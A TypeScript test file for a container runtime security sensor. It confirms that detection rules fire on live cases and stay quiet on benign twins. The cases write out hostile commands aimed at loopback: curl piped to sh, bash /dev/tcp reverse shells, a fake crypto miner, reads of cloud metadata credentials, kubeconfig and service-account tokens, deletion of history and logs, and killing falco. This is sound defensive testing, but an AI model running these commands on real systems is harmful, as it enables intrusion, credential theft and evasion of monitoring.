import type { ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { silentLogger, systemClock } from '../src/core/index.js';
import { createPodCache } from '../src/sensor/pods.js';
import { involves, liveSensor, pollUntil, Processes, renamedBinary, script, seen, writableCgroup2Root } from './support/sensor.js';

// Each detection fires on a live case (real processes, real sockets, real cgroups, a real /proc
// poller at 100 ms) and stays quiet on a benign twin that the poller demonstrably saw.

const CGROUP_ROOT = writableCgroup2Root();
if (CGROUP_ROOT === undefined) console.warn('sensor-live: cannot create cgroup v2 directories here (not root, or no cgroup2 mount): container cases skip');

const CONTAINER_ID = randomBytes(32).toString('hex');
const IMAGE_DIGEST = `sha256:${randomBytes(32).toString('hex')}`;
const POOL_PORTS = [3333, 3334, 3335, 4444, 5555, 7777, 14444, 45700];

interface Ctx {
  p: Processes;
  dir: string;
  cgroup: string;
  poolPort: number;
  otherPort: number;
  httpPort: number;
}

interface Case {
  name: string;
  rule: string;
  container?: boolean;
  run(ctx: Ctx): Promise<{ live: ChildProcess; twin: ChildProcess }> | { live: ChildProcess; twin: ChildProcess };
}

const sh = (ctx: Ctx, command: string): ChildProcess => ctx.p.start('sh', ['-c', command]);
const shIn = (ctx: Ctx, command: string): ChildProcess => ctx.p.startIn(ctx.cgroup, 'sh', ['-c', command]);
const sleepAs = (ctx: Ctx, name: string, seconds = '4'): ChildProcess => ctx.p.start(renamedBinary(ctx.dir, '/usr/bin/sleep', name), [seconds]);

function minerScript(ctx: Ctx, name: string): string {
  return script(ctx.dir, name, '#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/"$PORT"\nsleep 4 3>&-\n');
}

function miner(ctx: Ctx): { live: ChildProcess; twin: ChildProcess } {
  const live = ctx.p.start(minerScript(ctx, 'xmrig'), ['-o', `stratum+tcp://127.0.0.1:${ctx.poolPort}`, '-u', 'wallet', '--donate-level=1'], { env: { ...process.env, PORT: String(ctx.poolPort) } });
  const twin = ctx.p.start(minerScript(ctx, 'worker'), ['-o', `http://127.0.0.1:${ctx.otherPort}`, '-u', 'app'], { env: { ...process.env, PORT: String(ctx.otherPort) } });
  return { live, twin };
}

async function connected(port: number): Promise<Socket> {
  const socket = connect(port, '127.0.0.1');
  await new Promise<void>((resolve, reject) => {
    socket.once('connect', () => resolve());
    socket.once('error', reject);
  });
  return socket;
}

const CASES: Case[] = [
  { name: 'miner process name', rule: 'K8S.NODE_CryptoCoinMinerArtifacts', run: miner },
  { name: 'stratum+tcp:// arguments', rule: 'K8S.NODE_DigitalCurrencyMining', run: miner },
  { name: 'connection to a loopback mining pool', rule: 'PAL_MiningPoolConnection', run: miner },
  {
    name: 'curl | sh from a loopback web server',
    rule: 'K8S.NODE_DownloadAndRunCombo',
    run: (ctx) => ({
      live: sh(ctx, `curl -s http://127.0.0.1:${ctx.httpPort}/x.sh | sh`),
      twin: sh(ctx, `curl -s -o /dev/null http://127.0.0.1:${ctx.httpPort}/x.sh; sleep 3`),
    }),
  },
  {
    name: 'shell whose stdin/stdout is a TCP socket',
    rule: 'K8S.NODE_ReverseShell',
    run: async (ctx) => {
      const socket = await connected(ctx.otherPort);
      ctx.p.keep(socket);
      return {
        live: ctx.p.start('sh', [], { stdio: [socket, socket, 'ignore'] }),
        twin: ctx.p.start('sh', [], { stdio: ['pipe', 'pipe', 'ignore'] }),
      };
    },
  },
  {
    name: 'bash /dev/tcp reverse shell',
    rule: 'K8S.NODE_ReverseShell',
    run: (ctx) => ({
      live: ctx.p.start('bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${ctx.otherPort}; exec sh <&3 >&3 2>&3`]),
      twin: ctx.p.start('bash', ['-c', 'exec sh'], { stdio: ['pipe', 'pipe', 'ignore'] }),
    }),
  },
  {
    name: 'interactive shell in a container',
    rule: 'PAL_ShellInContainer',
    container: true,
    run: (ctx) => ({
      live: ctx.p.startIn(ctx.cgroup, 'sh', ['-i'], { stdio: ['pipe', 'ignore', 'ignore'] }),
      twin: ctx.p.start('sh', ['-i'], { stdio: ['pipe', 'ignore', 'ignore'] }),
    }),
  },
  {
    name: 'sshd in a container',
    rule: 'K8S.NODE_ContainerSSH',
    container: true,
    run: (ctx) => {
      const sshd = renamedBinary(ctx.dir, '/usr/bin/sleep', 'sshd');
      return { live: ctx.p.startIn(ctx.cgroup, sshd, ['4']), twin: ctx.p.start(sshd, ['4']) };
    },
  },
  {
    name: 'Kubernetes API call from a container',
    rule: 'K8S.NODE_KubernetesAPI',
    container: true,
    run: (ctx) => ({
      live: shIn(ctx, 'curl -s -m 1 https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets 2>/dev/null; sleep 3'),
      twin: shIn(ctx, `curl -s -m 1 http://127.0.0.1:${ctx.httpPort}/healthz >/dev/null; sleep 3`),
    }),
  },
  {
    name: 'cloud metadata request from a container',
    rule: 'K8S.NODE_ImdsCall',
    container: true,
    run: (ctx) => ({
      live: shIn(ctx, 'curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/ 2>/dev/null; sleep 3'),
      twin: sh(ctx, 'curl -s -m 1 http://169.254.169.254/latest/meta-data/ 2>/dev/null; sleep 3'),
    }),
  },
  {
    name: 'binary not in the container image',
    rule: 'PAL_BinaryDrift',
    container: true,
    run: (ctx) => ({
      live: ctx.p.startIn(ctx.cgroup, renamedBinary(ctx.dir, '/usr/bin/sleep', 'payload'), ['4']),
      twin: ctx.p.startIn(ctx.cgroup, '/usr/bin/sleep', ['4']),
    }),
  },
  {
    name: 'executable run from /tmp in a container',
    rule: 'PAL_ExecFromTmp',
    container: true,
    run: (ctx) => {
      const tool = renamedBinary(ctx.dir, '/usr/bin/sleep', 'tool');
      return { live: ctx.p.startIn(ctx.cgroup, tool, ['4']), twin: ctx.p.start(tool, ['4']) };
    },
  },
  {
    name: 'chmod +x then run from /tmp',
    rule: 'PAL_ChmodThenExecTmp',
    run: (ctx) => ({
      live: sh(ctx, `cp /usr/bin/sleep ${ctx.dir}/k && chmod +x ${ctx.dir}/k && ${ctx.dir}/k 3`),
      twin: sh(ctx, `cp /usr/bin/sleep ${ctx.dir}/k2 && chmod +x ${ctx.dir}/k2; sleep 3`),
    }),
  },
  {
    name: 'shell history removed',
    rule: 'K8S.NODE_HistoryFileCleared',
    run: (ctx) => ({ live: sh(ctx, `rm -f ${ctx.dir}/.bash_history; sleep 3`), twin: sh(ctx, `rm -f ${ctx.dir}/notes.txt; sleep 3`) }),
  },
  {
    name: 'log file removed from /var/log',
    rule: 'K8S.NODE_SystemLogRemoval',
    run: (ctx) => {
      const log = `/var/log/palisade-live-test-${process.pid}.log`;
      writeFileSync(log, 'test\n');
      return { live: sh(ctx, `rm -f ${log}; sleep 3`), twin: sh(ctx, `rm -f ${ctx.dir}/app.log; sleep 3`) };
    },
  },
  { name: 'useradd', rule: 'K8S.NODE_SuspectUserAddition', run: (ctx) => ({ live: sleepAs(ctx, 'useradd'), twin: sleepAs(ctx, 'userlist') }) },
  {
    name: 'openssl passwd',
    rule: 'K8S.NODE_SuspectPasswordChange',
    run: (ctx) => ({ live: sh(ctx, 'openssl passwd -6 -salt abcdefgh hunter2 >/dev/null; sleep 3'), twin: sh(ctx, 'openssl version >/dev/null; sleep 3') }),
  },
  {
    name: 'nohup of a hidden file in /tmp',
    rule: 'K8S.NODE_SuspectNohup',
    run: (ctx) => {
      const hidden = renamedBinary(ctx.dir, '/usr/bin/sleep', '.cache-x');
      return { live: ctx.p.start('nohup', [hidden, '4']), twin: ctx.p.start(hidden, ['4']) };
    },
  },
  {
    name: 'kubelet kubeconfig read',
    rule: 'K8S.NODE_KubeConfigAccess',
    run: (ctx) => ({ live: sh(ctx, 'cat /var/lib/kubelet/kubeconfig 2>/dev/null; sleep 3'), twin: sh(ctx, 'cat /etc/hostname >/dev/null; sleep 3') }),
  },
  {
    name: 'service-account token read',
    rule: 'PAL_ServiceAccountTokenAccess',
    run: (ctx) => ({
      live: sh(ctx, 'cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null; sleep 3'),
      twin: sh(ctx, 'cat /var/run/secrets/kubernetes.io/serviceaccount/namespace 2>/dev/null; sleep 3'),
    }),
  },
  {
    name: 'socat listener',
    rule: 'PAL_NetcatListener',
    run: (ctx) => ({
      // Port 0: the kernel picks a free one (a fixed port can be taken by another test file's socket,
      // and a socat that cannot bind exits before the poller sees it).
      live: ctx.p.start('socat', ['TCP-LISTEN:0,bind=127.0.0.1,reuseaddr', '-'], { stdio: ['pipe', 'ignore', 'ignore'] }),
      twin: ctx.p.start('socat', ['-', `TCP:127.0.0.1:${ctx.otherPort}`], { stdio: ['pipe', 'ignore', 'ignore'] }),
    }),
  },
  {
    name: 'burst of reconnaissance commands',
    rule: 'K8S.NODE_ReconnaissanceArtifactsBurst',
    run: (ctx) => {
      for (const name of ['id', 'uname', 'hostname', 'mount', 'ps']) renamedBinary(ctx.dir, '/usr/bin/sleep', name);
      const d = ctx.dir;
      return {
        live: sh(ctx, `${d}/id 3 & ${d}/uname 3 & ${d}/hostname 3 & ${d}/mount 3 & ${d}/ps 3 & wait`),
        twin: sh(ctx, `${d}/uname 3 & ${d}/uname 3 & ${d}/uname 3 & ${d}/uname 3 & ${d}/uname 3 & wait`),
      };
    },
  },
  {
    name: 'new network namespace (unshare)',
    rule: 'K8S.NODE_NamespaceCreation',
    run: (ctx) => ({ live: ctx.p.start('unshare', ['-n', 'sleep', '4']), twin: ctx.p.start('sleep', ['4']) }),
  },
  { name: 'attack tool', rule: 'K8S.NODE_KnownLinuxAttackTool', run: (ctx) => ({ live: sleepAs(ctx, 'nmap'), twin: sleepAs(ctx, 'nmapper') }) },
  { name: 'credential tool', rule: 'K8S.NODE_KnownLinuxCredentialAccessTool', run: (ctx) => ({ live: sleepAs(ctx, 'lazagne'), twin: sleepAs(ctx, 'lazy') }) },
  {
    name: 'security process killed',
    rule: 'K8S.NODE_SuspectProcessTermination',
    run: (ctx) => {
      sleepAs(ctx, 'falco', '8');
      return { live: sh(ctx, 'pkill -x falco; sleep 3'), twin: sh(ctx, 'pkill -x nosuchprocess; sleep 3') };
    },
  },
];

describe('sensor live detections (real processes)', () => {
  const p = new Processes();
  let base: Omit<Ctx, 'p' | 'dir'>;
  let kubeletPort = 0;
  let dir = '';

  beforeAll(async () => {
    const pool = await (async () => {
      for (const port of POOL_PORTS) {
        try {
          return await p.listen(port);
        } catch {
          continue;
        }
      }
      throw new Error(`no mining-pool port free on loopback (${POOL_PORTS.join(', ')})`);
    })();
    const other = await p.listen(0);
    const httpPort = await p.http('sleep 3\n');
    const podList = {
      kind: 'PodList',
      apiVersion: 'v1',
      items: [
        {
          metadata: { name: 'api-7c9d8b7f5-x2k4q', namespace: 'shop', uid: '9a1b2c3d-4e5f-4a6b-8c7d-0e1f2a3b4c5d', labels: { app: 'api' } },
          status: {
            containerStatuses: [
              { name: 'api', containerID: `containerd://${CONTAINER_ID}`, image: 'registry.example.com/shop/api:2.14.1', imageID: `registry.example.com/shop/api@${IMAGE_DIGEST}` },
            ],
          },
        },
      ],
    };
    kubeletPort = await p.http(JSON.stringify(podList), true);
    base = { cgroup: CGROUP_ROOT === undefined ? '' : p.containerCgroup(CGROUP_ROOT, CONTAINER_ID), poolPort: pool.port, otherPort: other.port, httpPort };
  });

  afterAll(async () => {
    await p.cleanup();
    rmSync(`/var/log/palisade-live-test-${process.pid}.log`, { force: true });
  });

  const perTest = new Processes();
  afterEach(async () => {
    await perTest.cleanup();
    if (dir !== '') rmSync(dir, { recursive: true, force: true });
  });

  it.each(CASES.map((c) => [`${c.rule}: ${c.name}`, c] as const))('%s', async (_name, c) => {
    if (c.container && CGROUP_ROOT === undefined) {
      console.warn(`skipping ${c.name}: no writable cgroup v2`);
      return;
    }
    dir = mkdtempSync(join(tmpdir(), 'palisade-live-'));
    const pods = createPodCache(async () => JSON.parse(await (await fetch(`http://127.0.0.1:${kubeletPort}/pods`)).text()), { clock: systemClock, log: silentLogger });
    await pods.refresh();
    const index = new Set(['/usr/bin/sleep', '/usr/bin/dash', '/bin/dash', '/usr/bin/sh', '/bin/sh', '/usr/bin/curl', '/usr/bin/bash']);
    const live = liveSensor({ pods, imageFiles: (digest) => (digest === IMAGE_DIGEST ? index : undefined) });
    await live.sensor.tick();
    const started = Date.now();
    const { live: liveProc, twin } = await c.run({ p: perTest, dir, ...base });
    const fired = () => live.alerts.some((a) => a.rule === c.rule && involves(a, liveProc.pid));
    const ok = await pollUntil(live, () => fired() && seen(live, twin.pid), 5000);
    // A few more ticks so that a twin alert, if any, would have come out.
    for (let i = 0; i < 3; i++) {
      await live.sensor.tick();
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(ok, `${c.rule} fired on the live case: ${fired()}, twin seen: ${seen(live, twin.pid)}`).toBe(true);
    expect(live.alerts.filter((a) => a.rule === c.rule && involves(a, twin.pid)).map((a) => a.message)).toEqual([]);
    const alert = live.alerts.find((a) => a.rule === c.rule && involves(a, liveProc.pid));
    expect(alert?.source).toBe('runtime');
    expect(alert?.target.node).toBe('live-node');
    if (c.container) {
      expect(alert?.target).toEqual({ node: 'live-node', container: 'api', resource: 'pods', namespace: 'shop', name: 'api-7c9d8b7f5-x2k4q', image: 'registry.example.com/shop/api:2.14.1' });
    }
    expect(Date.now() - started).toBeLessThan(10_000);
  }, 15_000);
});
